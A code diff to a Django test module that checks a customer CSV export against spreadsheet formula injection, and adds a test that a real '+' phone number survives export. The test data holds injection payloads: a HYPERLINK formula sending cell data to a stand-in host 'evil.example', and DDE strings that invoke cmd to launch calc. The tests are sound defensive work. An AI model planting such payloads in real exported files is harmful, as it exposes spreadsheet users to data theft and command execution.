@@ -14,7 +14,12 @@ from .factories import CustomerFactory
 
 pytestmark = pytest.mark.django_db
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "@SUM(1+1)", "-2+3+cmd|' /C calc'!A0"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "@SUM(1+1)",
+    "-2+3+cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+]
 
 
 def export(client, file_format: str):
@@ -62,3 +67,14 @@ def test_export_offers_only_whitelisted_fields(client, make_user):
         assert f"customerexportresource_{field}" in page
     assert "customerexportresource_email_normalized" not in page
     assert "customerexportresource_consent_source" not in page
+
+
+def test_a_phone_number_is_exported_as_stored_and_a_plus_formula_is_not(client, make_user):
+    CustomerFactory(first_name="Pat", phone="+4930123456")
+    client.force_login(make_user("mo", roles.MARKETING_OPERATOR))
+    data = {"format": "0", "resource": "0"}
+    data |= {f"customerexportresource_{field}": "on" for field in ("first_name", "phone")}
+    response = client.post(reverse("admin:customers_customer_export"), data)
+
+    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows == [{"first_name": "Pat", "phone": "+4930123456"}]
